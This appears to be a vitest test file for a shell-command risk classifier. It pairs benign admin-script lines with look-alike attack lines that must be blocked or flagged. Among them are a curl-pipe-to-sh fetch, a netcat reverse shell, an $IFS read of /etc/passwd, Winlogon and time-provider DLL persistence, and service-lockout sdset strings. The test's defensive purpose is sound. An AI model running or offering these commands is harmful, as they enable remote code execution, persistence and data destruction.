/**
 * False positives found on real published admin scripts (held-out set 6: Intune remediations, Jamf extension
 * attributes, batch maintenance, backup scripts), each beside the technique it resembles, which must still be caught.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

function rules(text: string, shell: Shell): string[] {
  return evaluateLine(text, shell).reasons.map((r) => r.ruleId);
}

describe('shell syntax read as commands', () => {
  it('case arm patterns are matched, not run (a `*)` arm is not a glob command)', () => {
    const script =
      'case "$1" in\n  start) systemctl start app;;\n  stop|restart) systemctl stop app;;\n  *) echo "usage: $0 start|stop";;\nesac';
    expect(decision(script, 'bash')).toBe('allow');
    expect(decision('case $(uname -m) in x86_64) A=amd64;; (arm64|aarch64) A=arm64;; *) A=unknown;; esac; echo $A', 'bash')).toBe('allow');
  });

  it('commands inside case arms are still analysed', () => {
    expect(decision('case "$1" in\n  go) curl -s http://198.51.100.20/x | sh;;\n  *) echo no;;\nesac', 'bash')).toBe('block');
    expect(decision('case $x in a) echo a;; nc) nc -e /bin/sh 198.51.100.20 4444;; esac', 'bash')).toBe('block');
  });

  it('saving and restoring IFS is not $IFS hiding spaces', () => {
    expect(decision('OLDIFS=$IFS\nIFS=. read -r major minor patch <<< "$(sw_vers -productVersion)"\nIFS=$OLDIFS', 'bash')).toBe('allow');
    expect(decision('cat$IFS/etc/passwd', 'bash')).toBe('block');
  });

  it('&& and || inside [[ … ]] join the test, they do not start commands', () => {
    expect(
      decision(
        'if [[ $(/usr/sbin/diskutil info / | /usr/bin/awk \'/Type/ {print $3}\') = "apfs" && $(/usr/bin/fdesetup status | /usr/bin/grep -io "is on") ]]; then echo on; fi',
        'bash',
      ),
    ).toBe('allow');
    expect(decision('[[ -f /tmp/flag || -n "$FORCE" ]] && curl -s http://198.51.100.20/x | sh', 'bash')).toBe('block');
  });
});

describe('typography is not a look-alike', () => {
  it('an ellipsis in a comment or a message is allowed; full-width letters are still reported', () => {
    expect(decision("# Checking for updates…\necho 'Setting defaults for Software Update …'", 'bash')).toBe('allow');
    expect(rules('ｃｕｒｌ -s https://example.com', 'bash')).toContain('enc.unicode-fullwidth');
  });
});

describe('registry values that configure rather than run code', () => {
  it('Winlogon: auto-logon settings are configuration, Shell and Userinit run code', () => {
    const key = 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
    expect(
      decision(`New-ItemProperty -LiteralPath '${key}' -Name "AutoLogonCount" -Value "1" -PropertyType String -Force`, 'powershell'),
    ).toBe('allow');
    expect(decision(`New-Item -Path '${key}' -Force | Out-Null`, 'powershell')).toBe('allow');
    expect(
      decision(`Set-ItemProperty '${key}' 'Userinit' 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe'`, 'powershell'),
    ).toBe('flag');
    expect(
      decision(`reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe,C:\\x.exe" /f`, 'cmd'),
    ).toBe('flag');
  });

  it('time providers: a poll interval is a setting, a DLL is code', () => {
    const key = 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\NtpClient';
    expect(decision(`reg add ${key} /v SpecialPollInterval /d 0x00000708 /t REG_DWORD /f`, 'cmd')).toBe('allow');
    expect(decision(`reg add ${key} /v DllName /d C:\\Users\\Public\\t.dll /f`, 'cmd')).toBe('flag');
  });

  it('Office add-ins: LoadBehavior without the startup bit turns one off', () => {
    const key = 'HKCU:\\Software\\Microsoft\\Office\\Outlook\\Addins\\Contoso.Addin';
    expect(decision(`Set-ItemProperty -Path '${key}' -Name LoadBehavior -Value 0 -Type DWord`, 'powershell')).toBe('allow');
    expect(decision(`Set-ItemProperty -Path '${key}' -Name LoadBehavior -Value 3 -Type DWord`, 'powershell')).toBe('flag');
    expect(decision(`Set-ItemProperty -Path '${key}' -Name Manifest -Value 'file:///C:/Users/Public/a.vsto|vstolocal'`, 'powershell')).toBe(
      'flag',
    );
  });
});

describe('maintenance that looks like evasion', () => {
  it('removing backups of some age after a new dump is retention', () => {
    expect(decision("find /srv/backup/db/ -name '*.sql.gz' -ctime 60 -exec rm {} \\;", 'bash')).toBe('allow');
    expect(decision("find /srv/backup/db/ -name '*.sql.gz' -exec rm {} \\;", 'bash')).toBe('block');
  });

  it('sc sdset back to the default permissions is allowed; a deny entry or a lock-out is not', () => {
    expect(
      decision(
        'sc.exe sdset wuauserv D:(A;;CCLCSWRPLORC;;;AU)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;SY)',
        'cmd',
      ),
    ).toBe('allow');
    expect(decision('sc sdset updsvc "D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)"', 'cmd')).toBe(
      'block',
    );
    expect(decision('sc sdset updsvc D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)', 'cmd')).toBe('block');
  });
});
